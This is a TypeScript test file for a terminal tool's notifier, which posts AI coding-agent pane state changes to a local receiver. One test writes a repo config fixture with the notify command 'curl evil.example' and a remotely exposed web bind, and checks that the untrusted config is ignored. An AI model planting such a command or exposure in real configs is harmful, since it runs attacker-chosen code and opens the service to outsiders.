// [notify]: the user's command, posting to a local HTTP receiver, runs once per change, never for a pane in view, never twice.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Notifier, type NotifyConfig } from '../../src/notify/index.js';
import { loadConfig } from '../../src/config/load.js';
import type { StampedEvent } from '../../src/core/events.js';
import type { State } from '../../src/core/types.js';
import { waitFor } from '../support/wait-for.js';

async function receiver(t: import('node:test').TestContext) {
  const got: Array<{ path: string; body: Record<string, unknown> }> = [];
  const srv = createServer((req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      got.push({ path: req.url ?? '', body: JSON.parse(body) as Record<string, unknown> });
      res.end('ok');
    });
  });
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', r));
  t.after(() => srv.close());
  const port = (srv.address() as { port: number }).port;
  return { got, command: `curl -s -m 5 -X POST --data-binary @- "http://127.0.0.1:${port}/$CASTELLAN_NOTIFY_EVENT/$CASTELLAN_NOTIFY_PANE"` };
}

function world(command: string) {
  let listener: (e: StampedEvent) => void = () => undefined;
  const watched = new Set<string>();
  const now = Date.now();
  const st = {
    panes: {
      'w1:p1': { id: 'w1:p1', window: 'w1', command: ['claude'], agent: { agent: 'claude', state: 'working', since: now } },
      'w1:p2': { id: 'w1:p2', window: 'w1', command: ['codex'], agent: { agent: 'codex', state: 'working', since: now } },
    },
    windows: { w1: { active: 'w1:p2' } },
    clients: {} as Record<string, { window: string }>,
  };
  const cfg: NotifyConfig = { command, events: ['blocked', 'done', 'exited'], debounce_ms: 80 };
  const logs: string[] = [];
  const n = new Notifier({ config: () => cfg, state: () => st as unknown as State, watched: () => watched, subscribe: (cb) => ((listener = cb), () => undefined), session: 's', log: (m) => logs.push(m) });
  let seq = 0;
  const change = (pane: 'w1:p1' | 'w1:p2', state: string, message?: string) => {
    const a = st.panes[pane].agent as { state: string; since: number; message?: string };
    const old = a.state;
    Object.assign(a, { state, since: Date.now() + seq, message });
    listener({ type: 'pane_agent_status_changed', pane, old, new: state, seq: ++seq, ts: Date.now() } as unknown as StampedEvent);
  };
  const emit = (e: Record<string, unknown>) => listener({ ...e, seq: ++seq, ts: Date.now() } as unknown as StampedEvent);
  return { n, st, watched, change, logs, emit };
}

const settle = () => new Promise((r) => setTimeout(r, 400));

test('one message per change, with the pane, agent, state and message as JSON and variables', async (t) => {
  const rx = await receiver(t);
  const w = world(rx.command);
  t.after(() => w.n.dispose());
  w.change('w1:p1', 'blocked', 'Bash: make test');
  await waitFor(() => rx.got.length === 1, { message: 'one post', timeoutMs: 5000 });
  assert.equal(rx.got[0].path, '/blocked/w1:p1');
  assert.deepEqual({ ...rx.got[0].body, since: 0 }, { event: 'blocked', session: 's', pane: 'w1:p1', agent: 'claude', state: 'blocked', message: 'Bash: make test', title: 'claude', since: 0 });
  // The same event again (a repeated report, a config reload) is not news.
  w.n['fire']('w1:p1', 'blocked');
  w.change('w1:p1', 'done');
  await waitFor(() => rx.got.length === 2, { message: 'done', timeoutMs: 5000 });
  await settle();
  assert.deepEqual(rx.got.map((g) => g.path), ['/blocked/w1:p1', '/done/w1:p1']);
});

test('a flapping state sends one message, about where it settled; one that flaps back sends none', async (t) => {
  const rx = await receiver(t);
  const w = world(rx.command);
  t.after(() => w.n.dispose());
  w.change('w1:p1', 'blocked');
  w.change('w1:p1', 'working');
  w.change('w1:p1', 'blocked');
  w.change('w1:p1', 'working');
  w.change('w1:p1', 'blocked');
  w.change('w1:p2', 'blocked');
  w.change('w1:p2', 'working');
  // Other events about the pane (a turn ended, a hook ran) do not cancel its pending message.
  w.emit({ type: 'pane_agent_turn_ended', pane: 'w1:p1', state: 'blocked' });
  await waitFor(() => rx.got.length >= 1, { message: 'a post', timeoutMs: 5000 });
  await settle();
  assert.deepEqual(rx.got.map((g) => g.path), ['/blocked/w1:p1']);
});

test('never for a pane a client or a web page is looking at; nothing without a command', async (t) => {
  const rx = await receiver(t);
  const w = world(rx.command);
  t.after(() => w.n.dispose());
  w.st.clients.c1 = { window: 'w1' };
  w.change('w1:p2', 'blocked');
  w.watched.add('w1:p1');
  w.change('w1:p1', 'blocked');
  await settle();
  assert.deepEqual(rx.got, []);
  const quiet = world('');
  quiet.change('w1:p1', 'blocked');
  await settle();
  quiet.n.dispose();
  assert.deepEqual(rx.got, []);
});

test('[notify] and [web] from an untrusted castellan.toml choose nothing; from the user layer they apply', (t) => {
  const root = mkdtempSync(join(tmpdir(), 'cas-notify-'));
  t.after(() => rmSync(root, { recursive: true, force: true }));
  const home = join(root, 'home');
  const repo = join(root, 'repo');
  mkdirSync(join(home, '.castellan'), { recursive: true });
  mkdirSync(join(repo, '.git'), { recursive: true });
  writeFileSync(join(repo, 'castellan.toml'), '[notify]\ncommand = "curl evil.example"\n[web]\nbind = "0.0.0.0"\nallow_remote = true\n');
  const untrusted = loadConfig({ cwd: repo, home });
  assert.equal(untrusted.config.notify.command, '');
  assert.equal(untrusted.config.web.bind, '127.0.0.1');
  assert.equal(untrusted.config.web.allow_remote, false);
  writeFileSync(join(home, '.castellan', 'config.toml'), '[notify]\ncommand = "notify-send castellan"\ndebounce_ms = 10\n[web]\nport = 9999\n');
  const mine = loadConfig({ cwd: root, home });
  assert.equal(mine.config.notify.command, 'notify-send castellan');
  assert.equal(mine.config.web.port, 9999);
  writeFileSync(join(home, 'bad.toml'), '[notify]\nevents = ["sometimes"]\ndebounce_ms = -5\n[web]\nport = "x"\n');
  const badLoaded = loadConfig({ cwd: root, home, files: { user: join(home, 'bad.toml') } });
  assert.ok(badLoaded.diagnostics.length >= 3, JSON.stringify(badLoaded.diagnostics));
  assert.deepEqual(badLoaded.config.notify.events, ['blocked', 'done', 'exited']);
  assert.equal(badLoaded.config.web.port, 7681);
});
